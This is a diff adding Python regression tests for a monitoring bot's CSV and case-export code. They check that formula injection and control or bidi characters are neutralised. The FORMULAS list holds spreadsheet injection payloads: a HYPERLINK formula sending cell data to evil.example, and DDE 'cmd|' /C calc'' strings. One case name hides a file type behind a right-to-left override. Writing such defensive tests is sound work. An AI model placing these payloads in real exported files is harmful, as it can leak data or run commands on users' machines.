@@ -1,0 +1,107 @@
+"""Regression tests for the findings of the outside attack on the running bot (issue #16), one or more each.
+
+Findings 1, 2, 8 and 13 came through Telegram and are tested through the fake Bot API in
+tests/test_attack_telegram.py; the rest are here, each test named after what the attacker did.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import xml.etree.ElementTree as ET
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from bot.csvfile import csv_bytes, safe_cell
+from bot.render import discord as discord_render
+from bot.render import telegram as telegram_render
+from bot.reply import Reply
+from handlers.cases.commands import commands as case_commands
+from storage.models import Role
+from tests.fakes.monitor import Clock, make_post, start_monitor_bot
+from tests.harness import BotHarness
+from tests.reliability.nasty import NASTY
+
+ROOT = Path(__file__).resolve().parents[1]
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\x00=1+1", "\u202e=1+1"]
+BIDI_OR_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
+
+
+def _cells(data: bytes) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
+
+
+def _runnable(cell: str) -> bool:
+    """Whether a spreadsheet would run the cell as a formula."""
+    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?\d+(\.\d+)?%?", cell)
+
+
+# --------------------------------------------------------------------------- 3. CSV formula injection
+def test_3_no_module_writes_csv_but_the_one_writer() -> None:
+    writers = [str(p.relative_to(ROOT)) for folder in ("bot", "handlers", "storage")
+               for p in (ROOT / folder).rglob("*.py")
+               if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))]
+    assert writers == ["bot/csvfile.py"]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_3_the_csv_writer_neutralises_formulas(payload: str) -> None:
+    cells = _cells(csv_bytes(["h", "n"], [[payload, -12], ["ok", "+3.5"]]))
+    assert not any(_runnable(c) for c in cells), cells
+    assert cells[3] == "-12" and cells[5] == "+3.5"  # numbers stay numbers
+    assert safe_cell(payload).lstrip("'") != ""
+
+
+async def test_3_digest_csv_and_wide_table_attachments_are_neutralised(tmp_path: Path) -> None:
+    clock = Clock()
+    bot, _ = await start_monitor_bot(tmp_path, clock)
+    try:
+        await bot.run("/watch add lockbit")
+        monitor = bot.services.extras["monitor"]
+        await monitor.ingest([make_post(f"f{i}", f"{f} lockbit", author=f[:60]) for i, f in enumerate(FORMULAS)])
+        clock.advance(hours=1)
+        [digest] = [a for r in await bot.run("/digest now") for a in r.attachments if a.filename == "digest.csv"]
+    finally:
+        await bot.stop()
+    cells = _cells(digest.data)
+    assert any("HYPERLINK" in c for c in cells) and not any(_runnable(c) for c in cells)
+    wide = Reply().table(["who", "what"], [(f, "x" * 400) for f in FORMULAS * 20], title="network")
+    attachments = [m.data for m in telegram_render.render(wide, {}) if m.filename.endswith(".csv")]
+    attachments += [data for m in discord_render.render(wide, {}) for name, data in m.files if name.endswith(".csv")]
+    assert len(attachments) == 2
+    for data in attachments:
+        cells = _cells(data)
+        assert "'+cmd|' /C calc'!A0" in cells and not any(_runnable(c) for c in cells)
+
+
+# --------------------------------------------------------------------------- 15. exports stay inert
+async def test_15_exports_drop_control_and_bidi_characters_and_gexf_parses(tmp_path: Path) -> None:
+    bot = BotHarness(tmp_path, sets=[case_commands])
+    await bot.start()
+    try:
+        await bot.run("/case new hostile \u202egnp.exe\x1b[31m")
+        for i, text in enumerate(s[:300] for s in NASTY if s.strip()):
+            await bot.run(f"/case add username:user{i}{text[:40].split()[0] if text.split() else ''}",
+                          role=Role.ANALYST)
+            await bot.run(f"/case note {text}", role=Role.ANALYST)
+            await bot.run(f"/case tag username:user{i} {text[:20].split()[0] if text.split() else 'x'}",
+                          role=Role.ANALYST)
+        await bot.run("/case note \ud800 lone \x00 surrogate \x0c \ufffe", role=Role.ANALYST)
+        exports = {}
+        for fmt in ("gexf", "md", "json", "csv", "stix", "html"):
+            [file] = [a for r in await bot.run(f"/case export {fmt}") for a in r.attachments]
+            exports[fmt] = file.data
+    finally:
+        await bot.stop()
+    root = ET.fromstring(exports["gexf"])  # well-formed XML whatever the case holds
+    assert root.tag.endswith("gexf") and len(root.findall(".//{*}node")) >= 10
+    with zipfile.ZipFile(io.BytesIO(exports.pop("csv"))) as archive:
+        texts = [archive.read(n).decode("utf-8-sig") for n in archive.namelist()]
+    texts += [data.decode("utf-8") for fmt, data in exports.items()]
+    for text in texts:
+        assert not BIDI_OR_CONTROL.search(text.replace("\r\n", "\n"))
+    assert any("lone" in t for t in texts)
